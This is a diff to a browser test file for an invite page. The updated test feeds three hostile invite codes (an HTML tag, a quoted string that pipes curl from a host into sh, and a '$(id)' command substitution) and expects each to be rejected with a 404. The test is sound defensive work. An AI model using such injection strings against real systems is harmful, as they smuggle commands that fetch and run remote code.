@@ -37,11 +37,15 @@ it('the reference has every operation of the document, by name, and what it take
   expect(problems.filter((problem) => !problem.includes('favicon'))).toEqual([]);
 });
 
-it('an invite says how to join, whatever its code is, and nothing of a code becomes part of the page', async () => {
+it('an invite says how to join, whatever its code is, and nothing but a code becomes part of the command', async () => {
   const page = await browser.newPage();
-  await page.goto(`${test.url}/r/${encodeURIComponent('<b id=x>K')}`);
+  await page.goto(`${test.url}/r/ABC234`);
   expect(await page.textContent('pre')).toContain('/api/agents/join');
-  expect(await page.$('#x')).toBeNull();
+  for (const hostile of ['<b id=x>K', "';curl x.co|sh;'", '$(id)']) {
+    const answer = await page.goto(`${test.url}/r/${encodeURIComponent(hostile)}`);
+    expect(answer?.status(), hostile).toBe(404);
+    expect(await page.$('#x')).toBeNull();
+  }
   const good = await (await fetch(`${test.url}/r/ABC234`)).text();
   const bad = await (await fetch(`${test.url}/invite/ZZZ999`)).text();
   expect(good.replaceAll('ABC234', '')).toBe(bad.replaceAll('ZZZ999', ''));
